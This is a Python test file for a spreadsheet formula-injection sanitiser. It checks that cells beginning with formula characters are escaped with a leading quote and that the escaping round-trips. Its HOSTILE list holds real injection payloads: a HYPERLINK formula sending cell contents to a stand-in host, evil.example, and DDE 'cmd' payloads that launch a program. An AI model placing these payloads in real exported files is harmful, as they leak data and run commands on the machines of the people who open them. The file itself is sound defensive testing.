"""core/cells.py: text that a spreadsheet would run as a formula is written as text."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from connecting_people.core.cells import safe_cell, safe_row, unescape_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1, "Click me")',
    "+44 20 7946 0000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_that_could_start_a_formula_gets_a_leading_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Walking group", "", " =not a formula", "a=b", "'quoted", "01632 960222", "1-2"]
)
def test_ordinary_text_is_left_as_it_is(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-3, -2.5, Decimal("-0.25"), 0, None, True, dt.date(2026, 1, 1)])
def test_numbers_and_other_values_are_data_not_formulas(value):
    assert safe_cell(value) is value


def test_text_already_quoted_before_a_formula_character_keeps_every_quote():
    assert safe_cell("'=1+1") == "''=1+1"
    assert unescape_cell("''=1+1") == "'=1+1"


def test_a_row_is_made_safe_cell_by_cell():
    assert safe_row(["=1", -1, "-1", "ok"]) == ["'=1", -1, "'-1", "ok"]


@given(st.text())
def test_reading_back_what_was_written_gives_the_same_text(text):
    written = safe_cell(text)
    assert isinstance(written, str)
    assert written[:1] not in set("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
    assert unescape_cell(written) == text
